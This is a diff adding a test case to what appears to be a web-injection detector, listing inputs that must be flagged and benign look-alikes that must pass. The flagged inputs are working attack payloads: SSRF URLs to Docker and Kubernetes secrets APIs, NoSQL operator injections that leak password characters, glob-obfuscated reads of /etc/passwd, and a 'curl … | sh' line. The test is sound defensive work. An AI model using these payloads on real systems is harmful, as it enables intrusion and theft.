@@ -450,6 +450,40 @@ TEST_F(ContextGradingTest, TypedQuestionsAreNotInjections) {
   EXPECT_TRUE(get("/download?file=..%2F.htaccess"));
 }
 
+// Shapes a review of the context rules above found: each evasion still counts, and each
+// benign text of the new detections stays clean.
+TEST_F(ContextGradingTest, ReviewedEvasionsAndTexts) {
+  // a URL value followed by words after '#' is that URL; a cluster name mentioned beside it
+  EXPECT_TRUE(json(R"({"url": "http://127.0.0.1:2375/containers/json#is the docker api we use in our local dev guide"})"));
+  EXPECT_TRUE(json(R"({"note": "We call (http://kubernetes.default.svc/api/v1/secrets) from the app, see http://localhost:3000 in your browser for the rest of the guide."})"));
+  // an operator right under a field named like a query language
+  EXPECT_TRUE(get("/products?condition%5B%24ne%5D=used"));
+  EXPECT_TRUE(json(R"({"query": {"$regex": ".*"}})"));
+  EXPECT_TRUE(json(R"({"filter": {"$expr": {"$eq": [{"$substrCP": ["$password", 0, 1]}, "a"]}}})"));
+  // a file URL with any authority
+  EXPECT_TRUE(json(R"({"name": "m1", "source": "file://x/etc/"})"));
+  // one-wildcard globs after a separator; a bare "/*" or a CSS comment is no glob
+  EXPECT_TRUE(get("/x?a=1%3B%2Fbin%2F%3Fat+%2Fetc%2F%3Fasswd"));
+  EXPECT_TRUE(get("/x?a=x%7C%2Fusr%2Fbin%2F%3Fhoami"));
+  EXPECT_FALSE(json(R"({"spec": {"rules": [{"http": {"paths": [{"path": "/*", "pathType": "ImplementationSpecific"}]}}]}})"));
+  EXPECT_FALSE(json(R"({"content": "<div style=\"color: red; /* the alert colour */ font-weight: bold\">Disk</div>"})"));
+  // several line breaks at the end of a path end its headers early
+  EXPECT_TRUE(get("/r/https://evil.example/%0d%0a%0d%0a"));
+  // commands that are words, with words after them; download commands whose output is kept
+  EXPECT_FALSE(form("/assistant", "command=set+alarm+for+7am"));
+  EXPECT_FALSE(form("/assistant", "voiceCommand=find+my+phone"));
+  EXPECT_FALSE(get("/games?system=ps&genre=racing"));
+  EXPECT_FALSE(get("/docs/search?q=curl+https%3A%2F%2Fapi.example.com%2Fv1%2Fcharges"));
+  EXPECT_TRUE(form("/x", "q=curl+-s+https%3A%2F%2F198.51.100.7%2Fa+%7C+sh"));
+  EXPECT_FALSE(form("/setup", "gw=192.168.1.1%3B+set+as+gateway"));
+  // texts naming scanner hosts, PowerShell types, dumps of a data site; a quoted sentence
+  EXPECT_FALSE(get("/acme/tools/blob/main/scripts/interact.sh"));
+  EXPECT_FALSE(form("/paste", "text=The+error+mentions+System.Security.Principal.WindowsIdentity+and+a+PSObject+when+the+script+runs"));
+  EXPECT_FALSE(get("/enwiki/20240101/enwiki-20240101-page.sql.gz"));
+  EXPECT_FALSE(form("/reviews", "comment=Label+says+%22vegan%22.+Ingredients+(soy%2C+salt).+%22May+contain+nuts%22"));
+  EXPECT_FALSE(get("/search?q=var_dump"));
+}
+
 // The contexts above are judged from what the application chose (field names, document shape),
 // never from what a short payload can add to itself: each of these still counts.
 TEST_F(ContextGradingTest, ContextsAPayloadCanForgeStillCount) {
